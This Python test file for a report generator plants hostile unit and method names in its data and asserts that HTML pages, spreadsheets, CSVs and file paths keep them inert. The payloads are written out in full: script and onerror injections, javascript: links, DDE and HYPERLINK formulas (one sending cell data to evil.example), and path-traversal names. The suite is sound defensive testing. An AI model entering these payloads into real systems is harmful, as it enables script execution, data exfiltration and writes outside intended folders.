"""The hostile-input suite (issue 15, point 0): names that are markup or spreadsheet formulas, planted in the
unit register and a method spec, must come out as text everywhere: the four notebook pages and the leader
summary (parsed: no ``<script>`` element, no event-handler attribute, no ``javascript:`` link, the
Content-Security-Policy present, the names visible as text), ``ranking.xlsx`` and ``history.xlsx`` (no
formula cell), every CSV (no field a spreadsheet would take for a formula, and qyb reads its own files back
exactly), file names (nothing outside the report folder) and the published folder's permissions.

Two shared builds keep it quick: the monthly run with no notebooks (index, spreadsheets, CSVs, PDFs:
a few seconds), and the four notebooks executed through the run's own code path
(:func:`qyb.report.run.execute_all`, HTML conversion included) with the method review's cheap settings.
Both score 2023-02 under a hostile copy of v1 on a folder holding only 2023-01..2023-03: a month that
scores publishes, the analyses its short history cannot support saying so (issue 15).
"""
from __future__ import annotations

import contextlib
import copy
import csv
import io
import os
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
import yaml

from qyb.cli import main
from qyb.data.files import formula_like, read_csv_table
from qyb.paths import METHODS_DIR
from qyb.report.htmlsafe import sanitise_page
from qyb.report.run import REGISTRY, NotebookSpec, Progress, execute_all
from tests.helpers import shared_once
from tests.report.test_run import UNITS, make_small_data

MONTH = "2023-02"
HISTORY = ("2023-01", "2023-02", "2023-03")  # the data folder of issue 15's short-history case

pytestmark = pytest.mark.slow

#: the names of issue 15's adversarial run, one per unit of the small data
HOSTILE_UNITS = dict(zip(UNITS, [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "-2+3+cmd|' /C calc'!A0",
    "../../../qyb-escaped/x",
]))
HOSTILE_TITLE = "<script>alert(3)</script>评分办法"
HOSTILE_GROUP = "<img src=x onerror=alert(4)>社会治安"
HOSTILE_INDICATOR = '@SUM(1+1)*cmd|" /C calc"!A0'
HOSTILE_LINK = '<a href="javascript:alert(5)">点我</a>'


def plant_names(data: Path, names: dict[str, str]) -> None:
    """Give the units ``names`` (unit_id -> name) in the register and in every month file."""
    for path in sorted(data.glob("*.csv")):
        frame = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
        ids = "unit_id" if "unit_id" in frame else "单位编码"
        name = "unit_name" if "unit_name" in frame else "村(社区)名称"
        frame[name] = [names.get(i, n) for i, n in zip(frame[ids], frame[name])]
        frame.to_csv(path, index=False, encoding="utf-8-sig")


def hostile_method(folder: Path) -> Path:
    """v1 with a hostile title, category name and indicator names (the spec's ``name`` is an identifier)."""
    spec = yaml.safe_load((METHODS_DIR / "v1.yaml").read_text(encoding="utf-8"))
    spec = copy.deepcopy(spec)
    spec.update(name="h1", title=HOSTILE_TITLE)
    spec["groups"][0]["name"] = HOSTILE_GROUP
    spec["indicators"][0]["name"] = HOSTILE_INDICATOR
    spec["indicators"][1]["name"] = HOSTILE_LINK
    path = folder / "h1.yaml"
    path.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    return path


def hostile_data(folder: Path) -> Path:
    """The six units of the small data with hostile names, months 2023-01..2023-03 only."""
    data = make_small_data(folder / "raw")
    for path in data.glob("20*.csv"):
        if path.stem not in HISTORY:
            path.unlink()
    plant_names(data, HOSTILE_UNITS)
    return data


def cli(*argv) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main([str(a) for a in argv])
    return status, out.getvalue(), err.getvalue()


@pytest.fixture
def published(tmp_path_factory):
    """``qyb run`` of the hostile month without notebooks: the summary, spreadsheets, CSVs and PDFs."""
    def build(folder: Path) -> dict:
        from qyb.report import run

        data, method = hostile_data(folder), hostile_method(folder)
        saved = list(run.REGISTRY)
        run.REGISTRY[:] = []
        try:
            status, out, err = cli("run", "--month", MONTH, "--data", data, "--method", method, "--reports",
                                   folder / "reports", "--quiet")
        finally:
            run.REGISTRY[:] = saved
        return {"status": status, "err": err}

    result, folder = shared_once(tmp_path_factory, "hostile-run", build)
    assert result["status"] == 0, result["err"]
    yield SimpleNamespace(folder=folder / "reports" / MONTH, root=folder)
    shared_once(tmp_path_factory, "hostile-run", build)


@pytest.fixture
def pages(tmp_path_factory):
    """The four notebooks of the run executed on the hostile month (the method review without its fairness
    simulation and with 1,000 draws) and converted to HTML as the run converts them."""
    def build(folder: Path) -> dict:
        data, method = hostile_data(folder), hostile_method(folder)
        out = folder / "reports" / ".build-pages"
        out.mkdir(parents=True)
        extra = {"03_method_review": ("fairness", "n_draws")}
        specs = [NotebookSpec(s.name, s.title, params=s.params + extra.get(s.name, ())) for s in REGISTRY]
        parameters = {"month": MONTH, "method": str(method), "data_dir": str(data), "output_dir": str(out),
                      "unit": "", "fairness": "", "n_draws": "1000"}
        execute_all(specs, parameters, out, Progress(quiet=True))
        return {}

    folder = shared_once(tmp_path_factory, "hostile-pages", build)[1]
    yield folder / "reports" / ".build-pages"
    shared_once(tmp_path_factory, "hostile-pages", build)


# ---------------------------------------------------------------- HTML
class PageScan(HTMLParser):
    """Elements, attributes and visible text of a page (the standard library's parser)."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self._style = 0
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._style += tag == "style"

    def handle_endtag(self, tag):
        self._style -= tag == "style" and self._style > 0

    def handle_data(self, data):
        if not self._style:
            self.text.append(data)

    @property
    def visible(self) -> str:
        return "".join(self.text)


def assert_inert(page: str, where: str) -> PageScan:
    scan = PageScan(page)
    scripts = [a for t, a in scan.tags if t == "script"]
    assert not scripts, f"{where}: <script> elements {scripts[:2]}"
    handlers = [(t, k) for t, a in scan.tags for k in a if k.lower().startswith("on")]
    assert not handlers, f"{where}: event-handler attributes {handlers[:3]}"
    links = [(t, k, v) for t, a in scan.tags for k, v in a.items()
             if k in ("href", "src") and v and re.sub(r"\s", "", v).lower().startswith(("javascript:", "vbscript:"))]
    assert not links, f"{where}: script links {links[:2]}"
    for t, _ in scan.tags:
        assert t not in ("iframe", "object", "embed", "base", "form"), f"{where}: <{t}>"
    csp = [a for t, a in scan.tags if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"]
    assert len(csp) == 1 and "script-src 'none'" in csp[0]["content"] and "default-src 'none'" in csp[0]["content"], \
        f"{where}: no restrictive Content-Security-Policy"
    return scan


def test_notebook_pages_show_hostile_names_as_text(pages):
    for spec in REGISTRY:
        page = (pages / f"{spec.name}.html").read_text(encoding="utf-8")
        scan = assert_inert(page, spec.name)
        assert HOSTILE_TITLE in scan.visible, f"{spec.name}: the method title is shown as text"
        if spec.name in ("01_ranking", "04_unit_profiles"):  # every unit is listed
            for name in HOSTILE_UNITS.values():
                assert name in scan.visible, (spec.name, name)
        if spec.name == "04_unit_profiles":
            assert HOSTILE_GROUP in scan.visible  # category names in the in-cell-bar tables and headings
        if spec.name == "03_method_review":
            assert HOSTILE_GROUP in scan.visible or "社会治安" in scan.visible


def test_a_month_that_scores_publishes_with_a_short_history(pages, published):
    """`qyb run --month 2023-02 --method v1` on a folder of 2023-01..2023-03 used to fail in notebook 02: every
    notebook now runs, and what the data cannot support is said on the page."""
    movements = PageScan((pages / "02_movements.html").read_text(encoding="utf-8")).visible
    assert "本月无法给出" in movements  # e.g. the year-on-year table: no 2022-02 in the folder
    review = PageScan((pages / "03_method_review.html").read_text(encoding="utf-8")).visible
    assert "无法" in review  # the v1/v2 comparison needs baselines the folder lacks
    assert (published.folder / "index.html").is_file()


def test_leader_summary_is_inert(published):
    scan = assert_inert((published.folder / "index.html").read_text(encoding="utf-8"), "index.html")
    shown = [name for name in HOSTILE_UNITS.values() if name in scan.visible]
    assert len(shown) >= 3, "the summary lists units (ranking at a glance) as text"


def test_scrub_removes_what_escaping_would_have_missed():
    """The last layer alone: whatever reached a page, nothing runs and nothing is fetched."""
    dirty = ('<html><head><meta http-equiv="refresh" content="0;url=http://evil.example"><base href="http://x/">'
             '<script src="https://cdn.example/require.js"></script></head><body>'
             '<p onclick="alert(1)" style="color:red">a</p><img src=x onerror=alert(2)>'
             '<a href="javascript:alert(3)">b</a><a href=" JaVa&#x0A;script:alert(4)">c</a>'
             '<img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/png;base64,iVBOR">'
             '<iframe srcdoc="<script>alert(5)</script>"></iframe><svg><script>alert(6)</script></svg>'
             '<form action="http://evil.example"><input name=q></form><p>&lt;script&gt;kept as text</p>'
             '<a href="01_ranking.html">ok</a><style>td{color:red}</style></body></html>')
    clean = sanitise_page(dirty)
    scan = assert_inert(clean, "scrubbed")
    srcs = [a.get("src") for t, a in scan.tags if t == "img"]
    assert srcs == ["x", None, "data:image/png;base64,iVBOR"]  # a data: URL only for an image
    assert [a.get("href") for t, a in scan.tags if t == "a"] == [None, None, "01_ranking.html"]
    assert "<script>kept as text" in scan.visible and "td{color:red}" in clean
    assert clean.count("Content-Security-Policy") == 1


def _png(*chunks: tuple[bytes, bytes]) -> str:
    """A data URL of a PNG made of ``chunks`` (kind, body) after IHDR, before a token IDAT (CRCs computed)."""
    import base64
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    data += b"".join(chunk(k, b) for k, b in chunks) + chunk(b"IDAT", zlib.compress(b"\0\0"))
    return "data:image/png;base64," + base64.b64encode(data).decode("ascii")


def test_images_get_their_title_as_alternative_text_and_it_stays_text():
    import zlib

    from qyb.report.htmlsafe import image_title

    utf8 = "平安形势指数排名".encode()
    assert image_title(_png((b"iTXt", b"Title\0\0\0\0\0" + utf8))) == "平安形势指数排名"
    assert image_title(_png((b"iTXt", b"Title\0\1\0\0\0" + zlib.compress(utf8)))) == "平安形势指数排名"
    assert image_title(_png((b"tEXt", b"Title\0ranking"))) == "ranking"
    assert image_title(_png((b"tEXt", b"Software\0x"))) == ""  # no title
    assert image_title(_png()) == "" and image_title("figures/a.png") == "" and image_title("data:image/png;base64,!!") == ""
    hostile = _png((b"iTXt", b"Title\0\0\0\0\0" + b'<script>alert(1)</script>" onerror="alert(2)'))
    page = sanitise_page(f'<div class="jp-RenderedImage jp-OutputArea-output"><img src="{hostile}"></div>'
                         '<img src="figures/b.png" alt="已有">')
    scan = assert_inert(page, "alt text")
    images = [a for t, a in scan.tags if t == "img"]
    assert images[0]["alt"] == '<script>alert(1)</script>" onerror="alert(2)' and "onerror" not in images[0]
    assert images[1]["alt"] == "已有"  # an existing text is kept
    assert 'tabindex="0"' in page and "<script>" not in page


def test_character_references_become_text_but_never_markup():
    """nbconvert writes the Chinese of Markdown headings as numeric references: they become the characters
    (a page reads and is searched as text); a reference to a markup character stays a reference."""
    page = sanitise_page("<h1>&#24179;&#23433;&#x6307;&#25968;</h1><p>&#60;script&#62;alert(1)&#x3C;/script&#x3e;"
                         "&#38;&#34;&#39;&#0;&#xD800;&#99999999;</p>")
    assert "<h1>平安指数</h1>" in page
    assert "&#60;script&#62;alert(1)&#x3C;/script&#x3e;&#38;&#34;&#39;&#0;&#xD800;&#99999999;" in page
    assert "<script>" not in page


def test_an_image_without_a_title_reads_as_a_chart():
    page = sanitise_page('<img src="figures/a.png">')
    assert 'alt="图表"' in page


# ---------------------------------------------------------------- spreadsheets and CSV
def test_spreadsheets_hold_no_formula(published):
    import openpyxl

    for name in ("ranking.xlsx", "history.xlsx"):
        path = published.folder / name
        with zipfile.ZipFile(path) as z:
            sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
            assert sheets and not any(re.search(rb"<f[ >]", z.read(n)) for n in sheets), f"{name} has a formula"
        book = openpyxl.load_workbook(path)
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        values = {c.value for c in cells if isinstance(c.value, str)}
        for hostile in HOSTILE_UNITS.values():
            assert hostile in values, (name, hostile)  # shown exactly, as text
        assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")


def test_csv_fields_are_neutralised_and_read_back_exactly(published):
    paths = sorted(published.folder.glob("*.csv")) + sorted((published.folder / "tables").glob("*.csv"))
    assert len(paths) >= 4
    for path in paths:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            fields = [v for row in csv.reader(fh) for v in row]
        assert not [v for v in fields if formula_like(v)], path.name
    record = read_csv_table(published.folder / "published.csv", dtype=str, keep_default_na=False)
    assert set(HOSTILE_UNITS.values()) == set(record["unit_name"])
    raw = (published.folder / "ranking.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in raw and "'-2+3+cmd" in raw  # OWASP: a leading apostrophe


def test_numbers_stay_numbers_in_csv():
    from qyb.data.files import csv_bytes, neutralise_text, restore_text

    frame = pd.DataFrame({"name": ["=1+1", "+SUM(A1)", "@x", "\t=1", "\r=2", "-3", "+2.5", "-12%", "'=x", "a"],
                          "value": [-1.5, 2, -3, 4, 5, 6, 7, 8, 9, 10]})
    text = csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0] for r in rows] == ["'=1+1", "'+SUM(A1)", "'@x", "'\t=1", "'\n=2", "-3", "+2.5", "-12%", "''=x", "a"]
    assert rows[0][1] == "-1.5"
    for v in frame["name"]:
        assert restore_text(neutralise_text(v)) == v
    assert len(rows) == len(frame), "a carriage return in a name does not start a row"


def test_template_xlsx_keeps_hostile_unit_names_as_text(tmp_path):
    import openpyxl

    data = hostile_data(tmp_path)
    out = tmp_path / "t.xlsx"
    status, _, err = cli("template", "--month", "2024-01", "--data", data, "--out", out)
    assert status == 0, err
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert HOSTILE_UNITS["XL07"] in {c.value for c in cells}


# ---------------------------------------------------------------- paths and permissions
def test_files_stay_inside_the_report_and_folders_are_readable(published):
    root = published.root
    assert not list(root.rglob("qyb-escaped")), "a unit name wrote outside its folder"
    folder = published.folder
    for path in [folder, *folder.rglob("*")]:
        assert path.resolve().is_relative_to(folder.resolve())
    umask = os.umask(0)
    os.umask(umask)
    assert folder.stat().st_mode & 0o777 == 0o777 & ~umask, "the published folder has ordinary permissions"
    pdfs = sorted(p.name for p in (folder / "体检表").glob("*.pdf"))
    assert len(pdfs) == len(HOSTILE_UNITS) + 1 and all("/" not in p for p in pdfs)


def test_spec_name_is_an_identifier(tmp_path):
    """``name: x/../../tmp/escaped`` named the default output scorecard_<name>.csv outside the project."""
    spec = yaml.safe_load((METHODS_DIR / "v2.yaml").read_text(encoding="utf-8"))
    spec["name"] = "x/../../../../../../../tmp/escaped"
    path = tmp_path / "bad.yaml"
    path.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    status, _, err = cli("score", "--month", MONTH, "--method", path)
    assert status == 2 and "key 'name'" in err and "is not an identifier" in err
    assert not Path("/tmp/escaped.csv").exists() or Path("/tmp/escaped.csv").stat().st_mtime < path.stat().st_mtime
